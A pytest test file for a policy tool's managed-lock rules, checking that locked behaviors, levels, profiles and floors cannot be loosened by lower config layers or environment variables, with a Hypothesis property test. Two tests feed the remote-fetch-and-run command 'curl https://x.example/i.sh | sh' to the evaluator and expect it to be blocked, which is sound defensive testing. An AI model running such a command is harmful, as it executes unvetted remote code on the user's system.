"""Managed locks (SPEC §10): what the managed layer marks ``locked`` no lower layer and no
environment variable can loosen — only tighten. One test per kind of setting, then a
Hypothesis property against a tiny reference model."""

from __future__ import annotations

from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

import forge_policy as fp
from forge_policy.config.layers import merge, overlay_catalog
from forge_policy.floor.status import configured_mode
from tests.config.test_layers import Layers, bash


@pytest.fixture
def layers(tmp_path: Path) -> Layers:
    return Layers(tmp_path)


def test_a_locked_behavior_stays_enabled(layers: Layers) -> None:
    layers.write(layers.managed, "behaviors:\n  risky-commands: {enabled: true, locked: true}\n")
    layers.write(layers.project_file, "behaviors:\n  risky-commands: {enabled: false}\n")
    layers.write(layers.local, "behaviors:\n  risky-commands: {enabled: false}\n")
    ev = layers.evaluator()
    assert ev.catalog["risky-commands"].enabled
    assert ev.evaluate(bash("curl https://x.example/i.sh | sh")).blocked


def test_a_locked_level_cannot_be_lowered_but_can_be_raised(layers: Layers) -> None:
    layers.write(
        layers.managed, "behaviors:\n  risky-commands: {level: soft_block, locked: true}\n"
    )
    layers.write(layers.project_file, "behaviors:\n  risky-commands: {level: nudge}\n")
    assert layers.evaluator().catalog["risky-commands"].spec["default_level"] == "soft_block"
    layers.write(layers.project_file, "behaviors:\n  risky-commands: {level: hard_block}\n")
    assert layers.evaluator().catalog["risky-commands"].spec["default_level"] == "hard_block"


def test_a_locked_escalation_and_tuning_cannot_be_loosened(layers: Layers) -> None:
    layers.write(layers.managed, "behaviors:\n  search-first: {locked: true}\n")
    layers.write(
        layers.project_file,
        "behaviors:\n  search-first:\n    tuning: relaxed\n"
        "    escalation: [{after: 9, level: nudge}]\n",
    )
    spec = layers.evaluator().catalog["search-first"].spec
    assert spec["escalation"] == [[1, "nudge"], [3, "warning"], [5, "soft_block"]]
    assert "level_cap" not in spec
    # tightening is fine
    layers.write(layers.project_file, "behaviors:\n  search-first: {tuning: strict}\n")
    spec = layers.evaluator().catalog["search-first"].spec
    assert spec["escalation"] == [[1, "nudge"], [2, "warning"], [3, "soft_block"]]


def test_shadow_does_not_reach_a_locked_behavior(layers: Layers) -> None:
    layers.write(layers.managed, "behaviors:\n  risky-commands: {locked: true}\n")
    layers.write(layers.project_file, "shadow: true\n")
    ev = layers.evaluator()
    assert ev.catalog["risky-commands"].mode == "enforce"
    assert ev.catalog["search-first"].mode == "shadow"


def test_a_locked_profile_only_moves_up(layers: Layers) -> None:
    layers.write(layers.managed, "profile: standard\nlocked: [profile]\n")
    layers.write(layers.project_file, "profile: minimal\n")
    assert layers.settings().profile == "standard"
    assert layers.settings(FORGE_PROFILE="minimal").profile == "standard"
    assert layers.evaluator(FORGE_PROFILE="minimal").settings.profile == "standard"
    assert layers.settings(FORGE_PROFILE="strict").profile == "strict"
    layers.write(layers.project_file, "profile: strict\n")
    assert layers.settings().profile == "strict"


def test_a_profile_that_leaves_a_locked_behavior_out_does_not_turn_it_off(layers: Layers) -> None:
    layers.write(layers.managed, "behaviors:\n  risky-commands: {locked: true}\n")
    ev = layers.evaluator(FORGE_PROFILE="minimal")  # risky-commands: standard and strict only
    assert ev.settings.profile == "minimal"
    assert ev.evaluate(bash("curl https://x.example/i.sh | sh")).blocked


def test_an_exception_cannot_loosen_a_locked_behavior(layers: Layers) -> None:
    layers.write(layers.managed, "behaviors:\n  risky-commands: {locked: true}\n")
    layers.write(
        layers.project_file,
        "exceptions:\n  - {behavior: risky-commands, match: {tool: Bash}, until: 2099-12-31, "
        "reason: please}\n",
    )
    settings = layers.settings()
    assert settings.exceptions == ()
    assert settings.notes == (
        f"{layers.project_file}:2: exception for risky-commands refused: the behavior is locked "
        f"by {layers.managed}:2",
    )
    assert layers.evaluator().evaluate(bash("npm install left-pad")).blocked


@pytest.mark.parametrize(
    ("variable", "value", "behavior"),
    [
        ("FORGE_DISABLE", "risky-commands", "risky-commands"),
        ("DISABLE_AGENT_SHIELD", "true", "agent-shield"),
    ],
)
def test_the_environment_cannot_switch_a_locked_behavior_off(
    layers: Layers, variable: str, value: str, behavior: str
) -> None:
    layers.write(layers.managed, f"behaviors:\n  {behavior}: {{locked: true}}\n")
    ev = layers.evaluator(**{variable: value})
    assert ev.catalog[behavior].enabled
    assert behavior not in [b.id for b in (ev.bypass.bypassed if ev.bypass else ())]
    assert f"{variable}: {behavior} is locked by {layers.managed}:2; it stays on" in (
        layers.settings(**{variable: value}).notes
    )
    # an unlocked behavior is still switched off by the environment
    ev = layers.evaluator(FORGE_DISABLE="search-first")
    assert not ev.catalog["search-first"].enabled


def test_a_locked_floor_cannot_be_turned_off(layers: Layers) -> None:
    layers.write(layers.managed, "floor: harness\nlocked: [floor]\n")
    layers.write(layers.project_file, "floor: off\n")
    env = layers.env()
    assert configured_mode(str(layers.root), env) == "harness"
    layers.write(layers.local, "floor: own\n")  # tightening
    assert configured_mode(str(layers.root), env) == "own"
    # unlocked, the managed value still wins over the project's
    layers.write(layers.managed, "floor: harness\n")
    layers.local.unlink()
    assert configured_mode(str(layers.root), env) == "harness"


def test_a_lock_outside_the_managed_layer_locks_nothing(layers: Layers) -> None:
    layers.write(layers.user, "behaviors:\n  risky-commands: {locked: true}\n")
    assert layers.evaluator(FORGE_DISABLE="risky-commands").bypass is not None


# -- the property --------------------------------------------------------------------------

LEVELS = ("silent", "nudge", "warning", "soft_block", "hard_block")
PROFILES = ("minimal", "standard", "strict")
#: behaviors of the built-in catalog that a lock may hold (none is bypass: never)
IDS = ("search-first", "risky-commands", "verify-before-done", "no-destructive-git")
CATALOG = fp.builtin_catalog()


def reference_level(spec: dict, n: int) -> int:  # type: ignore[type-arg]
    """The tiny model: the level index of the n-th violation of a spec (levels.escalate +
    the relaxed cap), written again here."""
    level = LEVELS.index(spec["default_level"])
    for after, step in spec.get("escalation", ()):
        if n >= after:
            level = max(level, LEVELS.index(step))
    if spec.get("level_cap"):
        level = min(level, LEVELS.index(spec["level_cap"]))
    return level


def reference_managed(behavior_id: str, entry: dict) -> dict:  # type: ignore[type-arg]
    """The managed layer alone applied to the catalog spec, by the model's own rules."""
    spec = dict(CATALOG[behavior_id].spec)
    if "escalation" in entry:
        spec["escalation"] = [[s["after"], s["level"]] for s in entry["escalation"]]
    if "level" in entry:
        spec["default_level"] = entry["level"]
    if entry.get("tuning") == "relaxed":
        spec["level_cap"] = "warning"
    elif entry.get("tuning") == "strict":
        spec["escalation"] = [[-(-a // 2), lv] for a, lv in spec.get("escalation", ())]
    if "enabled" in entry:
        spec["enabled"] = entry["enabled"]
    return spec


escalations = st.lists(st.tuples(st.integers(1, 6), st.sampled_from(LEVELS)), max_size=3).map(
    lambda steps: [
        {"after": a, "level": lv}
        for a, lv in zip(
            sorted({a for a, _ in steps}),
            sorted((lv for _, lv in steps), key=LEVELS.index),
            strict=False,
        )
    ]
)
entries = st.fixed_dictionaries(
    {},
    optional={
        "enabled": st.booleans(),
        "level": st.sampled_from(LEVELS),
        "escalation": escalations,
        "tuning": st.sampled_from(("strict", "relaxed")),
    },
)
layer_values = st.fixed_dictionaries(
    {},
    optional={
        "profile": st.sampled_from(PROFILES),
        "shadow": st.booleans(),
        "behaviors": st.dictionaries(st.sampled_from(IDS), entries, max_size=3),
    },
)


def as_layer(name: str, values: dict, locks: list) -> dict:  # type: ignore[type-arg]
    flat: dict[str, list[object]] = {}
    for key in ("profile", "shadow"):
        if key in values:
            flat[key] = [values[key], 1]
    for behavior_id, entry in values.get("behaviors", {}).items():
        for key, value in entry.items():
            if key == "escalation":
                value = [[s["after"], s["level"]] for s in value]
            flat[f"behaviors.{behavior_id}.{key}"] = [value, 2]
    return {
        "name": name,
        "file": f"/{name}/config.yaml",
        "values": flat,
        "exceptions": [],
        "locks": [[lock, 3] for lock in locks],
        "notes": [],
    }


def valid(entry: dict) -> bool:  # type: ignore[type-arg]
    """An entry the loader would take (an escalation's levels non-decreasing, after rising)."""
    steps = entry.get("escalation", [])
    afters = [s["after"] for s in steps]
    return afters == sorted(set(afters))


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    lower=st.lists(layer_values, min_size=0, max_size=3),
    managed=st.dictionaries(st.sampled_from(IDS), entries, min_size=1, max_size=2),
    managed_profile=st.sampled_from(PROFILES),
    env_profile=st.sampled_from(("", *PROFILES)),
    env_disable=st.lists(st.sampled_from(IDS), max_size=2),
)
def test_a_managed_lock_is_never_loosened(
    lower: list[dict],  # type: ignore[type-arg]
    managed: dict,  # type: ignore[type-arg]
    managed_profile: str,
    env_profile: str,
    env_disable: list[str],
) -> None:
    names = ["user", "project", "local"][: len(lower)]
    stack = [as_layer(name, values, []) for name, values in zip(names, lower, strict=True)]
    locks = ["profile", *(f"behaviors.{i}" for i in managed)]
    stack.append(as_layer("managed", {"profile": managed_profile, "behaviors": managed}, locks))
    environ = {"FORGE_PROFILE": env_profile, "FORGE_DISABLE": ",".join(env_disable)}
    s = merge(stack, environ)
    try:
        catalog, _ = overlay_catalog(CATALOG, s)
    except fp.errors.ProjectConfigError:
        return  # a setting the loader refuses (bypass: never): nothing applies
    assert PROFILES.index(s.profile or "standard") >= PROFILES.index(managed_profile)
    for behavior_id, entry in managed.items():
        held = reference_managed(behavior_id, entry)
        got = catalog[behavior_id]
        assert behavior_id not in s.disable
        if held.get("enabled", True):
            assert got.enabled
            assert not got.excluded_by(s.profile or "standard") or CATALOG[behavior_id].excluded_by(
                managed_profile
            )
        for n in range(0, 8):
            assert LEVELS.index(got.level_at(None, n).label) >= reference_level(held, n), n
        assert got.mode == "enforce"
